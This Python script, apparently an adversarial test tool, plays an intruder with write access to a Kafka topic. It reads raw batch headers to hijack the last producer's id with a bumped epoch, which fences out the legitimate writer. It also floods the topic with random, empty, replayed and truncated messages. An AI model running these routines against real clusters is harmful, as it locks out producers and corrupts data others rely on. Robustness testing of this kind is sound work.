"""A stranger who may write the topic of a ledger: what somebody does who got hold of a gateway's rights.

    python3 intruder.py fence BROKER TOPIC     takes over the identity of the producer that wrote last
    python3 intruder.py garbage BROKER TOPIC   appends what is no record, prints how many messages that is

It speaks Kafka's protocol by kafka-python and shares no code with the program.
"""

import os
import sys
import time

from kafka import KafkaConsumer, KafkaProducer, TopicPartition
from kafka.client_async import KafkaClient
from kafka.protocol.fetch import FetchRequest
from kafka.protocol.produce import ProduceRequest
from kafka.record.default_records import DefaultRecordBatchBuilder
from kafka.record.memory_records import MemoryRecords

TIMEOUT_MS = 10_000
PRODUCER_ID = 9  # among the fields of a batch's header
HUGE_BYTES = 1_000_000 - 1_000  # a batch has at most 1,000,000, its headers included


def last_writer(broker, topic):
    """Producer id and epoch in the header of the topic's last batch, which kafka-python gives to nobody."""
    client = KafkaClient(bootstrap_servers=broker, api_version=(2, 5, 0))
    node = ready_node(client)
    offset, writer = 0, None
    while True:
        request = FetchRequest[4](-1, 500, 1, 1 << 24, 0, [(topic, [(0, offset, 1 << 24)])])
        future = client.send(node, request)
        client.poll(future=future)
        [(_, [(_, error, end, _, _, data)])] = future.value.topics
        assert error == 0, error
        records = MemoryRecords(data)
        while records.has_next():
            batch = records.next_batch()
            writer = batch._header_data[PRODUCER_ID:PRODUCER_ID + 2]
            offset = batch.base_offset + batch.last_offset_delta + 1
        if offset >= end:
            client.close()
            return writer


def ready_node(client):
    node = client.least_loaded_node()
    while not client.ready(node):
        client.poll(timeout_ms=100)
    return node


def fence(broker, topic):
    """A batch under the producer's id with its next epoch: whoever has the old one is refused from then on."""
    producer_id, epoch = last_writer(broker, topic)
    assert producer_id >= 0
    builder = DefaultRecordBatchBuilder(magic=2, compression_type=0, is_transactional=0, producer_id=producer_id,
                                        producer_epoch=epoch + 1, base_sequence=0, batch_size=1 << 20)
    builder.append(0, int(time.time() * 1000), None, b"taken over", [])
    client = KafkaClient(bootstrap_servers=broker, api_version=(2, 5, 0))
    node = ready_node(client)
    future = client.send(node, ProduceRequest[3](None, -1, TIMEOUT_MS, [(topic, [(0, bytes(builder.build()))])]))
    client.poll(future=future)
    [(_, [(_, error, _, _)])] = future.value.topics
    assert error == 0, error
    client.close()


def garbage(broker, topic):
    partition = TopicPartition(topic, 0)
    consumer = KafkaConsumer(bootstrap_servers=broker, enable_auto_commit=False, consumer_timeout_ms=2_000)
    consumer.assign([partition])
    consumer.seek_to_beginning(partition)
    copies = [message.value for message in consumer]
    consumer.close()
    half = [value[:len(value) // 2] for value in copies]
    messages = [os.urandom(n) for n in (1, 10, 1_000, 70_000, HUGE_BYTES)] + [b"", None] + copies + half
    for codec in (None, "gzip"):
        producer = KafkaProducer(bootstrap_servers=broker, acks="all", compression_type=codec,
                                 max_request_size=1 << 21)
        for value in messages:
            producer.send(topic, value=value, key=b"a key", headers=[("ce_type", b"vn.nhanrong.record.v1")])
        producer.flush()
        producer.close()
    print(2 * len(messages))


if __name__ == "__main__":
    {"fence": fence, "garbage": garbage}[sys.argv[1]](*sys.argv[2:])
